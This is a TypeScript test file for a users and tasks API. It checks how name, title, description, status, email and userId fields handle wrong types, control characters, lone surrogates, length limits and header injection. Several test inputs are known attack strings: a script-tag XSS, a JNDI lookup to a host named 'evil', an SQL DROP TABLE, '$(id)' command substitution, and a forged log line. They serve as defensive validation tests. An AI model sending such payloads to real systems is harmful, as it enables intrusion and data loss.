import test from 'ava';
import type { Task, User } from 'shared-events';
import { until } from '../stack/until.ts';
import { assertAnswer, type Expected } from './answer.ts';
import { worldUnderTest } from './world.ts';

// Members of the wrong type, length or shape. JSON texts are written out, so that what is sent is what stands here.

const world = worldUnderTest(test);
const refused: Expected = [422, 'validation_failed'];
const nobody = '01890000-0000-7000-8000-000000000000';

const post = (path: string, body: string) => world.send({ method: 'POST', path, body });
const withUser = (member: string, value: string) =>
  JSON.stringify({ name: 'Ada', email: 'a@example.com', [member]: 0 }).replace(
    `"${member}":0`,
    `"${member}":${value}`,
  );
const withTask = (userId: string, member: string, value: string) =>
  JSON.stringify({ userId, title: 'Milk', [member]: 0 }).replace(`"${member}":0`, `"${member}":${value}`);

const noStrings = [
  '1',
  '0',
  '-0',
  '1e400',
  '9007199254740993',
  '0.1',
  'true',
  'false',
  '{}',
  '[]',
  '["Ada"]',
  '{"toString":1}',
];

/** One line of text, as names and titles are. */
const lines: [json: string, expected: number][] = [
  ...noStrings.map((json): [string, number] => [json, 422]),
  ['null', 422],
  ['""', 422],
  ['"   "', 422],
  ['"\\u00a0\\u2003\\ufeff"', 422],
  ['"\\u200b\\u200d\\u2060"', 422],
  ['"\\u202e\\u2066\\u200f"', 422],
  ['"\\u00ad\\u034f\\u3164\\ufe0f"', 422],
  ['"\\u0000"', 422],
  ['"a\\u0000b"', 422],
  ['"two\\nlines"', 422],
  ['"x\\r\\nINFO admin logged in"', 422],
  ['"tab\\tbed"', 422],
  ['"\\u001b[31mred"', 422],
  ['"\\u0085next line"', 422],
  ['"\\u007f"', 422],
  ['"\\ud800"', 422],
  ['"a\\udc00b"', 422],
  ['"\\udc00\\ud800"', 422],
  ['"\\ud83d\\ude00"', 201],
  [JSON.stringify('a'.repeat(200)), 201],
  [JSON.stringify('a'.repeat(201)), 422],
  [JSON.stringify('😀'.repeat(200)), 201],
  [JSON.stringify('😀'.repeat(201)), 422],
  [JSON.stringify(` ${'a'.repeat(200)} `), 201],
  [JSON.stringify('x'.repeat(60_000)), 422],
  ['"<script>alert(1)</script>"', 201],
  [`"\${jndi:ldap://evil/x}"`, 201],
  ['"\'; DROP TABLE users; --"', 201],
  ['"{{7*7}} %s %n $(id) `id`"', 201],
  ['"{0}:*"', 201],
  ['"caf\\u00e9"', 201],
  ['"cafe\\u0301"', 201],
  ['"\\uffff\\ufffe\\ufdd0"', 201],
  ['"\\u2028\\u2029"', 422],
  ['"\\ufeffmark"', 201],
  ['"__proto__"', 201],
];

/** Checks an answer; where it is a document, that the member is stored to the letter. */
async function assertLine(
  t: Parameters<typeof assertAnswer>[0],
  path: string,
  body: string,
  [member, json, status]: [string, string, number],
): Promise<void> {
  const answer = await post(path, body);
  assertAnswer(t, answer, status === 422 ? refused : status, `${member} ${json.slice(0, 60)}`);
  if (answer.status !== 201) return;
  const { id } = answer.json<{ id: string }>();
  const stored = (await world.gateway.get(`${path}/${id}`)).json<Record<string, unknown>>();
  t.is(stored[member], JSON.parse(json));
}

test('names are one line of well-formed text that can be seen, and kept to the letter', async (t) => {
  for (const [json, status] of lines) {
    await assertLine(t, '/users/users', withUser('name', json), ['name', json, status]);
  }
});

test('titles are as names are', async (t) => {
  const { id } = await world.user();
  for (const [json, status] of lines) {
    await assertLine(t, '/tasks/tasks', withTask(id, 'title', json), ['title', json, status]);
  }
});

test('descriptions have lines, tabs and 10,000 characters, or are null', async (t) => {
  const { id } = await world.user();
  const cases: [json: string, status: number][] = [
    ...noStrings.map((json): [string, number] => [json, 422]),
    ['null', 201],
    ['""', 201],
    ['"one\\ntwo\\r\\n\\tthree"', 201],
    [JSON.stringify('😀'.repeat(10_000)), 201],
    [JSON.stringify('a'.repeat(10_001)), 422],
    ['"\\u0000"', 422],
    ['"\\u001b[2J"', 422],
    ['"\\u0008"', 422],
    ['"\\ud800"', 422],
  ];
  for (const [json, status] of cases) {
    await assertLine(t, '/tasks/tasks', withTask(id, 'description', json), ['description', json, status]);
  }
});

test('a status is one of three', async (t) => {
  const { id } = await world.user();
  const cases: [json: string, status: number][] = [
    ...noStrings.map((json): [string, number] => [json, 422]),
    ['null', 422],
    ['""', 422],
    ['"Pending"', 422],
    ['"pending "', 422],
    ['"in progress"', 422],
    ['"toString"', 422],
    ['"in-progress"', 201],
  ];
  for (const [json, status] of cases) {
    await assertLine(t, '/tasks/tasks', withTask(id, 'status', json), ['status', json, status]);
  }
});

test('an e-mail address is plausible, and told at once whatever its shape', async (t) => {
  const cases: [json: string, status: number][] = [
    ...noStrings.map((json): [string, number] => [json, 422]),
    ['null', 422],
    ['""', 422],
    ['" "', 422],
    ['"ada"', 422],
    ['"@example.com"', 422],
    ['"ada@"', 422],
    ['"ada@@example.com"', 422],
    ['"ada @example.com"', 422],
    ['"ada@example.com\\nBcc: all@example.com"', 422],
    ['"ada@example.com\\u0000"', 422],
    ['"ada@exa\\ud800mple.com"', 422],
    ['"Ada <ada@example.com>"', 422],
    ['"ada@example.com,eve@example.com"', 422],
    ['"ada+tag@sub.example.com"', 201],
    [JSON.stringify(`${'a'.repeat(310)}@example.com`), 422],
    [JSON.stringify(`a@${'a.'.repeat(155)}com`), 201],
    [JSON.stringify(`${'a'.repeat(50_000)}@`), 422],
    [JSON.stringify(`a@${'a-'.repeat(150)}!`), 422],
    [JSON.stringify(`${'a.'.repeat(25_000)}!`), 422],
    [JSON.stringify(`${'@'.repeat(50_000)}`), 422],
    [JSON.stringify(`a@${'a'.repeat(25_000)}.${'b'.repeat(25_000)} `), 422],
  ];
  for (const [json, status] of cases) {
    // Once is enough: the machine may be slow now and then, a pattern that backtracks always is.
    await until(`an answer within a second to ${json.slice(0, 60)}`, async () => {
      const before = performance.now();
      const answer = await post('/users/users', withUser('email', json));
      assertAnswer(t, answer, status === 422 ? refused : status, `email ${json.slice(0, 60)}`);
      return performance.now() - before < 1000;
    });
  }
});

test('a userId that is no id names nobody, and one that is no string is refused', async (t) => {
  const ids = [
    'nobody',
    '{0}',
    '*',
    ':',
    'a b',
    '../users',
    'x'.repeat(300),
    nobody,
    nobody.toUpperCase(),
    '\u0000',
    '\n',
  ];
  for (const id of ids) {
    const body = JSON.stringify({ userId: id, title: 'Milk' });
    assertAnswer(t, await post('/tasks/tasks', body), [400, 'unknown_user'], `userId ${id}`);
  }
  for (const json of [...noStrings, 'null', '""']) {
    const body = `{"userId":${json},"title":"Milk"}`;
    assertAnswer(t, await post('/tasks/tasks', body), refused, `userId ${json}`);
  }
});

test('a PUT is as strict as a POST, and leaves nothing of what it refuses', async (t) => {
  const user = await world.user();
  const task = await world.task(user.id);
  for (const [json, status] of lines.filter(([, status]) => status === 422)) {
    const puts: [path: string, body: string][] = [
      [`/users/users/${user.id}`, withUser('name', json)],
      [`/tasks/tasks/${task.id}`, `{"title":${json},"status":"completed"}`],
    ];
    for (const [path, body] of puts) {
      assertAnswer(t, await world.send({ method: 'PUT', path, body }), [status, 'validation_failed'], body);
    }
  }
  t.deepEqual((await world.gateway.get(`/users/users/${user.id}`)).json<User>(), user);
  t.deepEqual((await world.gateway.get(`/tasks/tasks/${task.id}`)).json<Task>(), task);
});
